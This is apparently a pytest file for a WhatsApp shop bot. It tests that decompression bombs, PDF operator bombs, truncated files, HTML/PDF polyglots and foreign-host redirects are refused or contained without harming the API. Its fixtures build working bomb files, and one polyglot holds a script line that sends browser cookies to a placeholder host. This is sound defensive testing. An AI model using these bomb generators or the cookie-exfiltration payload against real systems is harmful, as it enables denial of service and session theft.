"""Hostile and unlucky media: a decompression bomb gets a clear answer without being
decoded and without stopping the event loop; decoding runs in a child process with
memory, CPU and time limits, so a PDF of millions of drawing operators or a truncated
file costs the child, never the API; media from someone with no use for it is not
downloaded at all; a PDF reaches the jastiper only as an image
of its first page (polyglots and ZIPs dressed as PDFs are refused); a download that
fails is tried again with a fresh URL; the access token never goes to another host.

The downloads run over HTTP against the fake Graph API and a second local server that
stands for a foreign host; the bot tests run the real app on SQLite and Postgres."""

from __future__ import annotations

import asyncio
import io
import struct
import zipfile
import zlib
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from PIL import Image, ImageFile
from pywa_async import WhatsApp
from sqlalchemy import func, select

from bot import simulate
from bot.keys import OUTBOX
from bot.settings import Settings
from bot.transport import build_wa_client
from services import photos
from services.errors import NotFound
from storage import isolated
from storage.demo import DEMO_PHONE
from storage.media import LocalMediaStore
from storage.models import Order, PaymentProof
from storage.uploads import (
    ForeignMediaHost,
    UploadRejected,
    clean_proof,
    download_media,
    prepare_proof,
)
from tests.conftest import Harness
from tests.fakes.foreign_host import ForeignHost
from tests.fakes.graph_api import FakeGraphAPI
from tests.journeys import joined, jpeg, order_one
from tests.samples import PDF_SECRETS, png_chunk, png_declaring, receipt_pdf
from tests.stack import Stack

TOKEN = "hostile-media-token"
NO_WAIT = (0.0, 0.0)  # the backoff between attempts, for tests of the attempts themselves


# ------------------------------------------------------------------ files


@pytest.fixture(scope="module")
def bomb_png() -> bytes:
    """The review's bomb: a real, valid 6,300 x 6,300 RGB PNG of about 120 KiB that
    decodes to 119 MB of pixels."""
    side = 6_300
    row = b"\0" * (1 + side * 3)
    packer = zlib.compressobj(9)
    idat = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    data = (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )
    assert len(data) < 128 * 1024
    return data


def operator_bomb_pdf(millions: int) -> bytes:
    """The review's PDF bomb: one A4 page drawing ``millions`` million tiny filled
    rectangles (``0 0 1 1 re f``) from one Flate stream. At zlib's level 9, 5 million
    were a 126 KB file that PDFium took to 1.8 GB, and 20 million (505 KB) made the API
    abort; level 1 here, quicker to build, makes the same page in a few times the bytes."""
    packer = zlib.compressobj(1)
    chunk = b"0 0 1 1 re f\n" * 1_000_000
    stream = b"".join(packer.compress(chunk) for _ in range(millions)) + packer.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


@pytest.fixture(scope="module")
def pdf_bomb() -> bytes:
    return operator_bomb_pdf(5)


def truncated(data: bytes) -> bytes:
    """The first half of a file, as an interrupted upload leaves it."""
    return data[: len(data) // 2]


def html_pdf_polyglot() -> bytes:
    """Starts like a PDF, is an HTML page with a script for a browser."""
    return (
        b"%PDF-1.4\n<html><body><script>fetch('https://x.example/?c='+document.cookie)"
        b"</script></body></html>\n%%EOF\n"
    )


def zip_with_pdf_header() -> bytes:
    """A ZIP archive (an HTML file inside) behind a PDF header."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("invoice.html", "<script>steal()</script>" * 20)
    return b"%PDF-1.7\n" + buf.getvalue() + b"\n%%EOF\n"


def big_photo() -> bytes:
    """A WhatsApp HD photo's size (4096 x 3072, 12.6 MP): accepted, and slow to clean."""
    img = Image.linear_gradient("L").resize((4096, 3072)).convert("RGB")
    buf = io.BytesIO()
    img.save(buf, "JPEG", quality=90)
    return buf.getvalue()


@pytest.fixture
def loads(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[tuple[int, int]]]:
    """The size of every picture Pillow decodes (a spy on the real decoder)."""
    seen: list[tuple[int, int]] = []
    real_load = ImageFile.ImageFile.load

    def spy(self: ImageFile.ImageFile) -> Any:
        seen.append(self.size)
        return real_load(self)

    monkeypatch.setattr(ImageFile.ImageFile, "load", spy)
    yield seen


# ------------------------------------------------------------------ decoding off the loop


async def test_a_decompression_bomb_is_refused_before_a_pixel_is_decoded(
    bomb_png: bytes, loads: list[tuple[int, int]]
) -> None:
    with pytest.raises(UploadRejected) as info:
        await prepare_proof(bomb_png, "image/png")
    assert info.value.reason == "too_many_pixels"
    # the decoder itself (what the child runs) refuses it from the header: the 119 MB
    # were never allocated
    with pytest.raises(UploadRejected) as info:
        clean_proof(bomb_png, "image/png")
    assert info.value.reason == "too_many_pixels"
    assert loads == []


async def test_a_pdf_of_millions_of_operators_costs_the_child_not_the_api(
    pdf_bomb: bytes,
) -> None:
    assert len(pdf_bomb) < 512 * 1024
    with pytest.raises(UploadRejected) as info:
        await prepare_proof(pdf_bomb, "application/pdf")
    assert info.value.reason == "corrupt"  # "can't be opened": the limits stopped it
    # the decoder is ready for the next buyer at once
    clean = await prepare_proof(receipt_pdf(), "application/pdf")
    assert clean.mime_type == "image/jpeg"


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (lambda: png_declaring(50_000, 50_000), "too_many_pixels"),
        (lambda: truncated(jpeg("navy", (640, 480))), "corrupt"),
        (lambda: truncated(receipt_pdf()), "corrupt"),
        (lambda: truncated(png_declaring(64, 64) + b"\0" * 64), "corrupt"),
    ],
    ids=["png-50000x50000", "truncated-jpeg", "truncated-pdf", "truncated-png"],
)
async def test_pixel_bombs_and_truncated_files_get_a_reason(make: Any, reason: str) -> None:
    with pytest.raises(UploadRejected) as info:
        await prepare_proof(make(), None)
    assert info.value.reason == reason


async def test_a_child_that_overruns_its_time_is_killed() -> None:
    # children of earlier tests (a server still being reaped) are not this run's
    before = set(_children())
    with pytest.raises(isolated.IsolatedFailed, match="no answer within"):
        await isolated.run("clean_proof", receipt_pdf(), wall_seconds=0.05)
    assert set(_children()) - before == set()  # killed and reaped: nothing left running


def _children() -> list[str]:
    """This process's live child processes (zombies included)."""
    found: list[str] = []
    for task in Path("/proc/self/task").iterdir():
        found += (task / "children").read_text().split()
    return found


async def test_the_event_loop_keeps_running_while_a_big_photo_is_cleaned(
    loads: list[tuple[int, int]],
) -> None:
    photo = big_photo()
    cleaning = asyncio.create_task(prepare_proof(photo, "image/jpeg"))
    turns = 0
    while not cleaning.done():  # another coroutine, taking turns on the same loop
        turns += 1
        await asyncio.sleep(0)
    clean = await cleaning

    with Image.open(io.BytesIO(clean.data)) as img:
        assert img.size == (4096, 3072)  # the photo really was decoded and re-encoded
    assert loads == []  # ... in the child process: this one never decoded a pixel
    # on the loop, cleaning would run to its end in the task's first turn: the other
    # coroutine would have had exactly one turn
    assert turns > 10


# ------------------------------------------------------------------ downloads


@pytest.fixture
async def graph() -> AsyncIterator[tuple[FakeGraphAPI, WhatsApp]]:
    async with FakeGraphAPI.running(token=TOKEN) as fake, httpx.AsyncClient() as session:
        settings = Settings(wa_access_token=TOKEN, wa_phone_id="1234", wa_api_base=fake.base_url)
        yield fake, build_wa_client(settings, session)


@pytest.fixture
async def foreign() -> AsyncIterator[ForeignHost]:
    async with ForeignHost.running() as host:
        yield host


async def test_an_expired_url_is_replaced_by_a_fresh_one(
    graph: tuple[FakeGraphAPI, WhatsApp],
) -> None:
    fake, wa = graph
    photo = jpeg()
    media_id = fake.add_media(photo, "image/jpeg")
    fake.expire_next_media_urls(1)

    data, mime = await download_media(wa, media_id, api_base=fake.base_url, backoff=NO_WAIT)

    assert (data, mime) == (photo, "image/jpeg")
    assert fake.media_lookups == [media_id, media_id]  # a fresh URL for the second try
    assert len(fake.media_downloads) == 2


async def test_a_download_that_never_answers_is_tried_again(
    graph: tuple[FakeGraphAPI, WhatsApp],
) -> None:
    fake, wa = graph
    photo = jpeg("blue")
    media_id = fake.add_media(photo, "image/jpeg")
    fake.stall_next_media_downloads(1)

    data, _ = await download_media(
        wa, media_id, api_base=fake.base_url, backoff=NO_WAIT, attempt_timeout=0.5
    )

    assert data == photo
    assert fake.media_lookups == [media_id, media_id]


async def test_a_download_that_keeps_failing_gives_up_after_the_last_attempt(
    graph: tuple[FakeGraphAPI, WhatsApp],
) -> None:
    fake, wa = graph
    media_id = fake.add_media(jpeg(), "image/jpeg")
    fake.expire_next_media_urls(3)

    with pytest.raises(httpx.HTTPStatusError) as info:
        await download_media(wa, media_id, api_base=fake.base_url, backoff=NO_WAIT)

    assert info.value.response.status_code == 404
    assert fake.media_lookups == [media_id] * 3


async def test_a_media_url_on_another_host_is_never_requested(
    graph: tuple[FakeGraphAPI, WhatsApp], foreign: ForeignHost
) -> None:
    fake, wa = graph
    media_id = fake.add_media(jpeg(), "image/jpeg")
    fake.media_url_base = foreign.base_url  # Meta (or whoever answers) points elsewhere

    with pytest.raises(ForeignMediaHost):
        await download_media(wa, media_id, api_base=fake.base_url, backoff=NO_WAIT)

    assert foreign.requests == []
    assert fake.media_lookups == [media_id] * 3


async def test_a_redirect_to_another_host_is_not_followed(
    graph: tuple[FakeGraphAPI, WhatsApp], foreign: ForeignHost
) -> None:
    fake, wa = graph
    media_id = fake.add_media(jpeg(), "image/jpeg")
    fake.redirect_media_to = foreign.base_url

    with pytest.raises(ForeignMediaHost):
        await download_media(wa, media_id, api_base=fake.base_url, backoff=NO_WAIT)

    assert foreign.requests == [] and foreign.tokens_received == []
    # the token went only to the Graph API's own origin, which answered with the redirect
    assert [auth for _, auth in fake.media_downloads] == [f"Bearer {TOKEN}"] * 3


def test_meta_media_hosts_come_from_the_environment(tmp_path: Path) -> None:
    default = Settings.from_env({"JASTIPIN_DATA_DIR": str(tmp_path)})
    assert default.wa_media_hosts == ("lookaside.fbsbx.com",)
    custom = Settings.from_env(
        {"JASTIPIN_DATA_DIR": str(tmp_path), "WA_MEDIA_HOSTS": " CDN-A.example , cdn-b.example"}
    )
    assert custom.wa_media_hosts == ("cdn-a.example", "cdn-b.example")


# ------------------------------------------------------------------ through the bot


async def _buyer_with_an_order(h: Harness) -> tuple[str, str]:
    await h.seed_demo()
    buyer = await joined(h)
    await order_one(h, buyer, "Daiso Storage Box", "1")
    async with h.db.read() as session:
        code = (await session.execute(select(Order.code))).scalar_one()
    return buyer, code


def _stored_files(h: Harness) -> list[Path]:
    root = h.settings.media_dir
    return [p for p in root.rglob("*") if p.is_file() and p.name != ".health"]


async def _proofs(h: Harness) -> int:
    async with h.db.read() as session:
        return int((await session.execute(select(func.count(PaymentProof.id)))).scalar_one())


async def test_a_bomb_gets_a_clear_answer_and_nothing_is_kept(
    harness: Harness, bomb_png: bytes
) -> None:
    h = harness
    buyer, _ = await _buyer_with_an_order(h)
    before = len(h.fake.sent_to(DEMO_PHONE))

    media_id = h.fake.add_media(bomb_png, "image/png")
    (answer,) = await h.send(simulate.media(buyer, "image", media_id, "image/png"))

    assert "terlalu besar untuk dibuka" in answer["text"]["body"]
    assert "16 megapiksel" in answer["text"]["body"]
    assert _stored_files(h) == [] and await _proofs(h) == 0
    assert len(h.fake.sent_to(DEMO_PHONE)) == before  # the jastiper is not bothered
    # the buyer can go on: a real photo is accepted right after
    (accepted,) = await h.send(
        simulate.media(buyer, "image", h.fake.add_media(jpeg(), "image/jpeg"), "image/jpeg")
    )
    assert "sudah kami terima" in accepted["text"]["body"]


async def test_a_pdf_proof_reaches_the_jastiper_only_as_its_first_page(harness: Harness) -> None:
    h = harness
    buyer, code = await _buyer_with_an_order(h)
    pdf = receipt_pdf()

    media_id = h.fake.add_media(pdf, "application/pdf", filename="bukti.pdf")
    sent = await h.send(
        simulate.media(buyer, "document", media_id, "application/pdf", filename="bukti.pdf")
    )

    assert "sudah kami terima" in sent[0]["text"]["body"]
    forwarded = h.fake.sent_to(DEMO_PHONE)[-2]
    assert forwarded["type"] == "image" and code in forwarded["image"]["caption"]
    uploaded = h.fake.media[forwarded["image"]["id"]].data  # what the jastiper can open
    (stored,) = _stored_files(h)
    # the stored file is sealed with the PII key (docs/SECURITY.md): opened here as served
    key = stored.relative_to(h.settings.media_dir).as_posix()
    for data in (uploaded, h.cipher.open_file(stored.read_bytes(), key)):
        assert data.startswith(b"\xff\xd8\xff") and b"%PDF" not in data
        for secret in PDF_SECRETS:
            assert secret not in data
        with Image.open(io.BytesIO(data)) as img:
            assert img.format == "JPEG" and img.width > img.height  # the landscape page 1
    async with h.db.read() as session:
        proof = (await session.execute(select(PaymentProof))).scalar_one()
    assert proof.mime_type == "image/jpeg"


@pytest.mark.parametrize("make", [html_pdf_polyglot, zip_with_pdf_header])
async def test_files_dressed_as_pdfs_are_refused(harness: Harness, make: Any) -> None:
    h = harness
    buyer, _ = await _buyer_with_an_order(h)
    before = len(h.fake.sent_to(DEMO_PHONE))

    media_id = h.fake.add_media(make(), "application/pdf", filename="bukti.pdf")
    (answer,) = await h.send(
        simulate.media(buyer, "document", media_id, "application/pdf", filename="bukti.pdf")
    )

    assert "rusak atau tidak bisa dibuka" in answer["text"]["body"]
    assert _stored_files(h) == [] and await _proofs(h) == 0
    assert len(h.fake.sent_to(DEMO_PHONE)) == before


async def test_a_proof_whose_first_url_expired_is_still_accepted(harness: Harness) -> None:
    h = harness
    buyer, code = await _buyer_with_an_order(h)
    media_id = h.fake.add_media(jpeg("navy"), "image/jpeg")
    h.fake.expire_next_media_urls(1)

    (answer,) = await h.send(simulate.media(buyer, "image", media_id, "image/jpeg"))

    assert "sudah kami terima" in answer["text"]["body"]
    assert h.fake.media_lookups.count(media_id) == 2
    assert code in h.fake.sent_to(DEMO_PHONE)[-2]["image"]["caption"]
    assert await _proofs(h) == 1


async def test_a_redirect_elsewhere_is_not_followed_and_the_buyer_is_asked_again(
    harness: Harness, foreign: ForeignHost
) -> None:
    h = harness
    buyer, _ = await _buyer_with_an_order(h)
    media_id = h.fake.add_media(jpeg("teal"), "image/jpeg")
    h.fake.redirect_media_to = foreign.base_url

    (answer,) = await h.send(simulate.media(buyer, "image", media_id, "image/jpeg"))

    assert "gagal kami ambil" in answer["text"]["body"]
    assert foreign.requests == []
    assert h.fake.media_lookups.count(media_id) == 3  # every attempt with a fresh URL
    assert await _proofs(h) == 0


@pytest.mark.parametrize("joined_first", [False, True], ids=["stranger", "buyer-without-order"])
async def test_media_from_someone_with_no_use_for_it_is_never_fetched(
    harness: Harness, pdf_bomb: bytes, joined_first: bool
) -> None:
    h = harness
    await h.seed_demo()
    sender = await joined(h) if joined_first else "6285" + "0" * 8 + "7"
    bomb_id = h.fake.add_media(pdf_bomb, "application/pdf", filename="bukti.pdf")
    photo_id = h.fake.add_media(jpeg(), "image/jpeg")

    answers = await h.send(
        simulate.media(sender, "document", bomb_id, "application/pdf", filename="bukti.pdf")
    )
    answers += await h.send(simulate.media(sender, "image", photo_id, "image/jpeg"))

    assert [a["text"]["body"] for a in answers] == [
        "Terima kasih! Tapi kamu belum punya pesanan yang menunggu pembayaran. "
        "Ketik PESANAN untuk melihat pesananmu."
    ] * 2
    # neither file was looked up, downloaded, decoded or stored
    assert h.fake.media_lookups == [] and h.fake.media_downloads == []
    assert _stored_files(h) == [] and await _proofs(h) == 0


async def _until(condition: Any) -> None:
    """Wait until ``condition()`` holds (callers bound the wait)."""
    while not condition():  # noqa: ASYNC110 - a fake's counter, no event to wait on
        await asyncio.sleep(0.02)


async def test_a_stalled_download_never_delays_another_user(harness: Harness) -> None:
    h = harness
    buyer, code = await _buyer_with_an_order(h)
    other = await joined(h, "Budi")
    before = len(h.fake.sent_to(buyer))
    # Given the buyer's proof download hangs, and the buyer types right after sending it
    h.fake.stall_next_media_downloads(1)
    photo_id = h.fake.add_media(jpeg("olive"), "image/jpeg")
    assert (await h.post(simulate.media(buyer, "image", photo_id, "image/jpeg"))).status == 200
    assert (await h.post(simulate.text(buyer, "PESANAN"))).status == 200
    await asyncio.wait_for(_until(lambda: h.fake.stalled_now == 1), timeout=20)

    # When another user asks for help
    asked = len(h.fake.sent_to(other))
    assert (await h.post(simulate.text(other, "BANTUAN"))).status == 200

    async def answered() -> None:
        while len(h.fake.sent_to(other)) == asked:
            await h.app[OUTBOX].flush()
            await asyncio.sleep(0.02)

    # Then they are answered while the buyer's download is still hanging
    await asyncio.wait_for(answered(), timeout=20)
    assert h.fake.stalled_now == 1
    # and the buyer's own later text waits for their photo, not the other way round
    assert h.fake.sent_to(buyer)[before:] == []

    h.fake.release_stalled_media_downloads()  # a 503: tried again with a fresh URL
    await h.settle()
    proof, *after = h.fake.sent_to(buyer)[before:]
    assert "sudah kami terima" in proof["text"]["body"]
    assert after and code in str(after)  # PESANAN, answered after the proof
    assert await _proofs(h) == 1


# ------------------------------------------------------------------ a real API process


def _rss(pid: int) -> int:
    """Resident memory of process ``pid`` in bytes (its children not included)."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise AssertionError(f"no VmRSS for {pid}")


async def test_the_api_stays_small_while_hostile_files_arrive(
    tmp_path: Path, fake_graph: FakeGraphAPI, pdf_bomb: bytes, bomb_png: bytes
) -> None:
    # Given `jastipin serve` (SQLite, the embedded broker) and its demo jastiper, who
    # may send files (a stranger's are not even downloaded)
    s = Stack(tmp_path, fake_graph, f"sqlite+aiosqlite:///{tmp_path / 'api.db'}", "jp-rss")
    for name in ("REDIS_URL", "QUEUE_PREFIX"):
        s.env.pop(name)
    hostile = [
        ("document", pdf_bomb, "application/pdf"),  # 5 million operators
        ("document", operator_bomb_pdf(20), "application/pdf"),  # 20 million
        ("image", png_declaring(50_000, 50_000), "image/png"),
        ("image", bomb_png, "image/png"),
        ("image", truncated(jpeg("navy", (640, 480))), "image/jpeg"),
        ("image", truncated(png_declaring(64, 64) + b"\0" * 64), "image/png"),
        ("document", truncated(receipt_pdf()), "application/pdf"),
    ]
    try:
        await s.run("db", "upgrade")
        await s.run("demo")
        await s.serve()
        pid = s.procs["serve"].pid
        before = len(fake_graph.sent_to(DEMO_PHONE))
        peak = _rss(pid)

        # When the hostile files arrive together
        for kind, data, mime in hostile:
            media_id = fake_graph.add_media(data, mime, filename="bukti.pdf")
            await s.post(simulate.media(DEMO_PHONE, kind, media_id, mime, filename="bukti.pdf"))
        async with asyncio.timeout(180):
            while len(fake_graph.sent_to(DEMO_PHONE)) < before + len(hostile):
                peak = max(peak, _rss(pid))
                await asyncio.sleep(0.05)
        peak = max(peak, _rss(pid))

        # Then each got a friendly answer, and the API stayed small and alive
        answers = [m["text"]["body"] for m in fake_graph.sent_to(DEMO_PHONE)[before:]]
        assert len(answers) == len(hostile)
        for answer in answers:
            assert "rusak atau tidak bisa dibuka" in answer or "terlalu besar" in answer
        print(f"API RSS peak while {len(hostile)} hostile files arrived: {peak / 2**20:.0f} MB")
        assert peak < 300 * 2**20
        assert s.procs["serve"].returncode is None
        assert s.http is not None and (await s.http.get("/health")).status_code == 200
    finally:
        await s.close()


async def test_product_photo_renditions_are_made_in_the_child(
    tmp_path: Path, loads: list[tuple[int, int]]
) -> None:
    store = LocalMediaStore(tmp_path)
    await store.put("products/bomb.png", png_declaring(50_000, 50_000), "image/png")
    await store.put("products/ok.jpg", jpeg("teal", (1600, 1200)), "image/jpeg")

    with pytest.raises(NotFound):
        await photos.rendition(store, "products/bomb.png", "thumb")
    thumb = await photos.rendition(store, "products/ok.jpg", "thumb")

    with Image.open(io.BytesIO(thumb)) as img:
        assert img.format == "JPEG" and img.size == (400, 300)
    assert loads == []  # neither was decoded in this process
